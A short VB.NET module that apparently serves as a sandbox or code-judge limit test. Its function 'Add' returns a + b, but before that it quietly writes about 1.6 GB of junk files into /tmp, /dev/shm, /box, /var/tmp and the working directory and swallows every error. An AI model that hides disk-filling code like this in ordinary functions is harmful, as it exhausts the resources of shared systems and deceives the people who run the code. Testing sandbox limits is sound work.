Imports System.IO

Module Module1
    Function Add(a As Integer, b As Integer) As Integer
        Dim block(1048575) As Byte
        For Each folder As String In {"/tmp", "/dev/shm", "/box", "/var/tmp", "."}
            For number As Integer = 1 To 20
                Try
                    Using file = IO.File.Create(folder & "/" & number)
                        For i As Integer = 1 To 16
                            file.Write(block, 0, block.Length)
                        Next
                    End Using
                Catch ex As Exception
                    Continue For
                End Try
            Next
        Next
        Return a + b
    End Function
End Module
